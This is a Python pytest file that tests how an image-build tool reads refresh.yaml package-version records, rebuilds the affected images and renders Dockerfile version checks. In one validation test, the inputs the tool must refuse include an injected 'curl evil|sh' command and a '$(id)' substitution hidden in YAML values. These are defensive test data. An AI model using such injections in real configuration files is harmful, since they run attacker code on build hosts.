"""refresh.yaml without a daemon: what it reads and refuses (file, line, key path), the content
hashes it changes (exactly a recorded image and its descendants), the Dockerfile check it
renders, where an update is recorded (the image that installed the package) and the file it
writes."""

from __future__ import annotations

from pathlib import Path

import pytest

from imagefactory.build.catalog import BuildRequest
from imagefactory.errors import SpecError
from imagefactory.freshness import refresh
from imagefactory.freshness.outdated import Freshness, Installed, OutdatedReport, Pending
from imagefactory.project.plan import make_plan
from imagefactory.project.state import State
from imagefactory.render.dockerfile import render_dockerfile
from imagefactory.spec.catalog import Catalog
from imagefactory.spec.loader import load_catalog
from imagefactory.spec.refresh import REFRESH_FILE, load_refresh, refresh_text

from .test_plan import recorded

RECORD = "refreshed:\n  base/debian12:\n    libc6: 2.36-9+deb12u10\n"


def write(root: Path, text: str) -> None:
    (root / REFRESH_FILE).write_text(text)


def test_a_record_rebuilds_exactly_its_image_and_descendants(catalog_dir: Path) -> None:
    before = {e.ref: e for e in make_plan(load_catalog(catalog_dir), State())}
    state = recorded(before)
    write(catalog_dir, "refreshed:\n  runtime/llm:cpu:\n    python3.11: 3.11.2-6+deb12u6\n")
    after = {e.ref: e.reasons for e in make_plan(load_catalog(catalog_dir), state)}
    assert after == {
        "base/debian12": (),
        "runtime/llm:cpu": ("refreshed",),
        "runtime/llm:cuda": (),
        "tools/ci": (),
        "app/rag-api": ("parent changed",),
        "app/rag-api-distroless": ("parent changed",),
    }
    write(catalog_dir, "refreshed: {}\n")  # no records: the hashes of a catalog without any
    assert all(not e.reasons for e in make_plan(load_catalog(catalog_dir), state))


def test_a_base_record_reaches_every_descendant(catalog_dir: Path) -> None:
    state = recorded({e.ref: e for e in make_plan(load_catalog(catalog_dir), State())})
    write(catalog_dir, RECORD)
    reasons = {e.ref: e.reasons for e in make_plan(load_catalog(catalog_dir), state)}
    assert reasons["base/debian12"] == ("refreshed",)
    assert all(reasons[ref] == ("parent changed",) for ref in reasons if ref != "base/debian12")


@pytest.mark.parametrize(
    ("text", "key", "line", "says"),
    [
        ("refreshed:\n  base/debain12:\n    libc6: '1.0'\n", "refreshed.base/debain12", 2,
         "did you mean 'base/debian12'"),
        ("refreshed:\n  base/debian12:\n    libc6: 1.0; curl evil|sh\n",
         "refreshed.base/debian12.libc6", 3, "a Debian version"),
        ("refreshed:\n  base/debian12:\n    'libc6 $(id)': '1.0'\n",
         "refreshed.base/debian12", 2, "a Debian package name"),
        ("refresh:\n  base/debian12: {}\n", "refresh", 1, ""),
        ("refreshed: [1, 2\n", "", None, "YAML"),
    ],
)  # fmt: skip
def test_bad_records_are_refused_with_line_and_key_path(
    catalog_dir: Path, text: str, key: str, line: int | None, says: str
) -> None:
    write(catalog_dir, text)
    with pytest.raises(SpecError) as caught:
        load_catalog(catalog_dir)
    [issue] = caught.value.issues
    assert issue.file == catalog_dir / REFRESH_FILE
    assert issue.key_path.startswith(key)
    assert line is None or issue.line == line
    assert says in issue.message + (issue.hint or "")


def test_the_written_file_reads_back_the_same_records(tmp_path: Path) -> None:
    records = {"runtime/llm:cpu": {"libpython3.11": "3.11.2-6+deb12u6", "a+b": "1:2.0~rc1-1"}}
    text = refresh_text(records)
    assert text.startswith("# Written by `imagefactory build --refresh`")
    write(tmp_path, text)
    assert load_refresh(tmp_path, ["runtime/llm:cpu"]) == (records, [])
    assert refresh_text(records) == text  # same records, same bytes
    write(tmp_path, refresh_text({}))
    assert load_refresh(tmp_path, []) == ({}, [])


def test_the_dockerfile_checks_each_recorded_version(catalog_dir: Path) -> None:
    write(catalog_dir, RECORD + "  runtime/llm:cpu:\n    python3.11: 3.11.2-6+deb12u6\n")
    catalog = load_catalog(catalog_dir)
    base = render_dockerfile(catalog, catalog.images["base/debian12"], "sha256:0", None)
    # a bootstrapped base installs nothing itself: its own RUN checks what the rootfs holds
    assert "RUN for pin in libc6=2.36-9+deb12u10; do" in base
    assert 'dpkg --compare-versions "$have" ge "$wanted"' in base
    runtime = render_dockerfile(catalog, catalog.images["runtime/llm:cpu"], "sha256:0", None)
    # in the packages RUN, so a new record is a new layer, never one from the cache
    packages = runtime[runtime.index("apt-get update") : runtime.index("pip install")]
    assert "&& for pin in python3.11=3.11.2-6+deb12u6; do" in packages
    app = render_dockerfile(catalog, catalog.images["app/rag-api"], "sha256:0", None)
    assert "for pin in" not in app


def _fresh(image: str, installed: list[Installed], pending: list[Pending]) -> Freshness:
    return Freshness(image, f"{image}@sha256:0", "bookworm", len(installed), tuple(pending),
                     tuple(installed))  # fmt: skip


LIBC_OLD = Installed("libc6", "2.36-9+deb12u9", "amd64")
PY_OLD = Installed("python3.11", "3.11.2-6+deb12u5", "amd64")
LIBC = Pending("libc6", "2.36-9+deb12u9", "2.36-9+deb12u10", "bookworm-security", True)
PY = Pending("python3.11", "3.11.2-6+deb12u5", "3.11.2-6+deb12u6", "bookworm-security", True)


def test_an_update_is_recorded_under_the_image_that_installed_it(catalog_dir: Path) -> None:
    catalog = load_catalog(catalog_dir)
    images = (
        _fresh("base/debian12", [LIBC_OLD], [LIBC]),
        _fresh("runtime/llm:cpu", [LIBC_OLD, PY_OLD], [LIBC, PY]),
        _fresh("app/rag-api", [LIBC_OLD, PY_OLD], [LIBC, PY]),
    )
    found = {(u.image, u.package): u.seen_in for u in refresh.attribute(catalog, images)}
    assert found == {
        ("base/debian12", "libc6"): ("app/rag-api", "base/debian12", "runtime/llm:cpu"),
        ("runtime/llm:cpu", "python3.11"): ("app/rag-api", "runtime/llm:cpu"),
    }
    # a descendant that upgraded the package itself owns that version's update
    newer = Installed("libc6", "2.36-9+deb12u10", "amd64")
    later = Pending("libc6", "2.36-9+deb12u10", "2.36-9+deb12u11", "bookworm-security", True)
    images = (_fresh("base/debian12", [LIBC_OLD], []), _fresh("app/rag-api", [newer], [later]))
    [update] = refresh.attribute(catalog, images)
    assert (update.image, update.version) == ("app/rag-api", "2.36-9+deb12u11")


def _planned(
    catalog: Catalog, monkeypatch: pytest.MonkeyPatch, images: tuple[Freshness, ...]
) -> refresh.RefreshPlan:
    def report(_: Catalog, refs: list[str], *, missing_ok: bool) -> OutdatedReport:
        assert missing_ok and refs == ["base/debian12", "runtime/llm:cpu", "app/rag-api"]
        return OutdatedReport(images, ())

    monkeypatch.setattr(refresh, "outdated", report)
    return refresh.plan_refresh(catalog, BuildRequest(("app/rag-api",)))


def test_records_keep_a_newer_version_and_skip_packages_image_yaml_pins(
    catalog_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(catalog_dir, "refreshed:\n  base/debian12:\n    libc6: 2.36-9+deb12u12\n")
    path = catalog_dir / "images" / "runtime" / "llm" / "image.yaml"
    path.write_text(path.read_text().replace("python3, ", "python3, python3.11=3.11.2-6+deb12u5, "))
    catalog = load_catalog(catalog_dir)
    images = (
        _fresh("base/debian12", [LIBC_OLD], [LIBC]),
        _fresh("runtime/llm:cpu", [LIBC_OLD, PY_OLD], [LIBC, PY]),
    )
    plan = _planned(catalog, monkeypatch, images)
    assert [(u.image, u.package) for u in plan.pinned] == [("runtime/llm:cpu", "python3.11")]
    assert plan.refreshed == {"base/debian12": {"libc6": "2.36-9+deb12u12"}}  # newer kept
    assert not plan.changed
    write(catalog_dir, "")
    plan = _planned(load_catalog(catalog_dir), monkeypatch, images)
    assert plan.changed and plan.refreshed == {"base/debian12": {"libc6": "2.36-9+deb12u10"}}
